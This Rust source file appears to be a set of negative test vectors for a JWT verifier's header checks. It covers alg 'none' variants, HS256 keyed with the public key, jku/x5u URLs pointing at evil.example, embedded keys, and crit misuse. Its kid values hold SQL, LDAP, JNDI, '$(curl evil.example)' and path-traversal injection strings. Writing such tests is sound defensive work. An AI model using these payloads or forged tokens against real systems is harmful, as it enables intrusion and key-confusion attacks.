//! What stands in a header and must not, and what may.

use serde_json::{Value, json};

use super::Group;
use crate::hostile::{b64, jkt, jwk, key, s256, sign_bytes, sign_input};
use phr_link::key::Signer as _;

pub(super) fn vectors() -> Group {
    let mut group = Group::new("header");
    let g = &mut group;
    g.scene(
        "control",
        "",
        "the ordinary request is permitted",
        "ok",
        |_| {},
    );
    let none = |name: &str| {
        let header = json!({"alg": name, "typ": "phr-grant+jwt", "kid": jkt("holder")});
        let claims = crate::scene::grant_claims();
        format!(
            "{}.{}.",
            b64(header.to_string().as_bytes()),
            b64(claims.to_string().as_bytes())
        )
    };
    for (slug, name) in [
        ("none", "none"),
        ("none-title", "None"),
        ("none-mixed", "nOnE"),
        ("none-blank", "NONE "),
    ] {
        g.grant(
            &format!("alg-{slug}"),
            "JOSE-001 JOSE-002",
            "no signature at all",
            "header.alg-not-allowed",
            |grant| {
                grant.raw = Some(none(name));
            },
        );
    }
    for (slug, name) in [
        ("hs256", "HS256"),
        ("es256", "ES256"),
        ("ed448", "Ed448"),
        ("rs256", "RS256"),
        ("lower", "eddsa"),
        ("upper", "EDDSA"),
        ("empty", ""),
        ("ed25519ph", "Ed25519ph"),
    ] {
        g.grant(
            &format!("alg-{slug}"),
            "JOSE-004 JOSE-006 SIG-011",
            "an algorithm outside the list",
            "header.alg-not-allowed",
            |grant| {
                grant.header["alg"] = json!(name);
            },
        );
    }
    for (slug, secret) in [
        ("raw", key("holder").public_key().as_bytes().to_vec()),
        ("jwk", jwk("holder").to_string().into_bytes()),
    ] {
        g.grant(
            &format!("alg-hs256-keyed-with-public-{slug}"),
            "JOSE-004",
            "the public key used as a shared secret",
            "header.alg-not-allowed",
            |grant| {
                grant.header["alg"] = json!("HS256");
                let input = format!(
                    "{}.{}",
                    b64(grant.header.to_string().as_bytes()),
                    b64(grant.claims.to_string().as_bytes())
                );
                let mac = s256(&format!("{}{input}", String::from_utf8_lossy(&secret)));
                grant.raw = Some(format!("{input}.{mac}"));
            },
        );
    }
    g.grant(
        "alg-ed25519",
        "",
        "the newer name of the same algorithm",
        "ok",
        |grant| grant.header["alg"] = json!("Ed25519"),
    );
    g.grant(
        "alg-missing",
        "JOSE-003",
        "no algorithm",
        "header.malformed",
        |grant| remove(&mut grant.header, "alg"),
    );
    for (slug, value) in [
        ("array", json!(["Ed25519"])),
        ("number", json!(1)),
        ("null", Value::Null),
        ("object", json!({})),
    ] {
        g.grant(
            &format!("alg-{slug}"),
            "JOSE-007",
            "an algorithm that is no text",
            "header.malformed",
            |grant| {
                grant.header["alg"] = value;
            },
        );
    }
    for (slug, pinned, alg, answer) in [
        (
            "eddsa-pinned-ed25519",
            "Ed25519",
            "EdDSA",
            "key.alg-mismatch",
        ),
        (
            "ed25519-pinned-eddsa",
            "EdDSA",
            "Ed25519",
            "key.alg-mismatch",
        ),
        ("eddsa-pinned-eddsa", "EdDSA", "EdDSA", "ok"),
        ("ed25519-pinned-ed25519", "Ed25519", "Ed25519", "ok"),
    ] {
        g.scene(
            &format!("alg-{slug}"),
            "JOSE-006",
            "the key pins the name of the algorithm",
            answer,
            |scene| {
                holder_key(scene)["alg"] = json!(pinned);
                scene.grant.header["alg"] = json!(alg);
                scene.status[0].header["alg"] = json!(pinned);
            },
        );
    }
    for (slug, member, value) in [
        ("jku", "jku", json!("https://evil.example/jwks")),
        ("x5u", "x5u", json!("https://evil.example/x")),
        ("x5c", "x5c", json!(["MIIB"])),
        ("jwk", "jwk", jwk("evil")),
    ] {
        g.grant(
            &format!("key-source-{slug}"),
            "JOSE-009 JOSE-010",
            "the token brings its own key or a place to fetch one",
            "header.key-source",
            |grant| {
                grant.header[member] = value;
            },
        );
    }
    g.grant(
        "private-key",
        "JOSE-033",
        "a private key in the header",
        "header.private-key",
        |grant| {
            grant.header["jwk"] = jwk("evil");
            grant.header["jwk"]["d"] = json!(s256("canary-private"));
        },
    );
    g.proof(
        "private-key-in-proof",
        "POP-009 JOSE-033",
        "a private key in the proof",
        "header.private-key",
        |proof| {
            proof.header["jwk"]["d"] = json!(s256("canary-private"));
        },
    );
    for (slug, kid) in [
        ("unknown", jkt("nobody")),
        ("sql", "x' OR '1'='1".to_owned()),
        ("ldap", "*)(uid=*".to_owned()),
        ("jndi", "${jndi:ldap://evil.example/x}".to_owned()),
        ("shell", "$(curl evil.example)".to_owned()),
        ("path", "../../etc/passwd".to_owned()),
        ("empty", String::new()),
        ("nul", "a\u{0}b".to_owned()),
    ] {
        g.grant(
            &format!("kid-{slug}"),
            "JOSE-011 JOSE-013",
            "a key that nobody has listed",
            "key.unknown",
            |grant| {
                grant.header["kid"] = json!(kid);
            },
        );
    }
    g.grant(
        "kid-of-other-holder",
        "JOSE-014",
        "signed by another listed issuer than `iss`",
        "key.issuer-mismatch",
        |grant| {
            grant.header["kid"] = json!(jkt("other holder"));
            grant.signer = "other holder".into();
        },
    );
    g.grant(
        "kid-missing",
        "",
        "no `kid`",
        "header.kid-missing",
        |grant| remove(&mut grant.header, "kid"),
    );
    g.grant(
        "kid-number",
        "",
        "a `kid` that is no text",
        "header.malformed",
        |grant| grant.header["kid"] = json!(1),
    );
    for (slug, crit, extra, answer) in [
        ("exp", json!(["exp"]), Some("exp"), "header.crit-invalid"),
        (
            "unknown",
            json!(["phr-unknown"]),
            Some("phr-unknown"),
            "header.crit-unsupported",
        ),
        (
            "b64",
            json!(["b64"]),
            Some("b64"),
            "header.crit-unsupported",
        ),
        ("empty", json!([]), None, "header.crit-invalid"),
        (
            "absent",
            json!(["phr-unknown"]),
            None,
            "header.crit-invalid",
        ),
        ("text", json!("phr-unknown"), None, "header.crit-invalid"),
        ("null", Value::Null, None, "header.crit-invalid"),
        ("number", json!([1]), None, "header.crit-invalid"),
    ] {
        g.grant(
            &format!("crit-{slug}"),
            "JOSE-016 JOSE-017 JOSE-018",
            "an extension that the verifier would have to know",
            answer,
            |grant| {
                grant.header["crit"] = crit;
                if let Some(name) = extra {
                    grant.header[name] = json!(false);
                }
            },
        );
    }
    g.grant(
        "b64-false",
        "",
        "a payload that is not encoded",
        "header.b64",
        |grant| grant.header["b64"] = json!(false),
    );
    g.grant("zip", "", "a compressed payload", "header.zip", |grant| {
        grant.header["zip"] = json!("DEF")
    });
    g.grant(
        "unknown-member",
        "",
        "an unknown member is ignored",
        "ok",
        |grant| grant.header["x-note"] = json!({"a": 1}),
    );
    g.proof(
        "kid-in-proof-ignored",
        "POP-026",
        "a `kid` in a kind that brings its key is ignored",
        "ok",
        |proof| proof.header["kid"] = json!("whatever"),
    );
    for (slug, use_) in [
        ("use-enc", json!({"use": "enc"})),
        ("key-ops-encrypt", json!({"key_ops": ["encrypt"]})),
    ] {
        g.scene(
            slug,
            "JOSE-032",
            "a key that is not for signatures",
            "key.use-mismatch",
            |scene| {
                crate::scene::merge(holder_key(scene), &use_);
            },
        );
        g.proof(
            &format!("{slug}-in-proof"),
            "JOSE-032",
            "a proof key that is not for signatures",
            "key.use-mismatch",
            |proof| {
                crate::scene::merge(&mut proof.header["jwk"], &use_);
            },
        );
    }
    for (slug, header) in [("array", "[]"), ("text", "\"x\""), ("number", "7")] {
        g.grant(
            &format!("header-{slug}"),
            "",
            "a header that is no object",
            "header.malformed",
            |grant| {
                grant.raw = Some(sign_bytes(
                    header.as_bytes(),
                    grant.claims.to_string().as_bytes(),
                    "holder",
                ));
            },
        );
    }
    g.grant(
        "not-json",
        "",
        "a header that is no JSON",
        "token.json",
        |grant| {
            grant.raw = Some(sign_input(
                &format!("{}.{}", b64(b"{alg"), b64(b"{}")),
                "holder",
            ));
        },
    );
    group
}

/// The holder's key in the trust list.
pub(super) fn holder_key(scene: &mut crate::scene::Scene) -> &mut Value {
    &mut scene.trust_list.claims["members"][0]["keys"][0]
}

pub(super) fn remove(object: &mut Value, name: &str) {
    if let Some(members) = object.as_object_mut() {
        members.remove(name);
    }
}
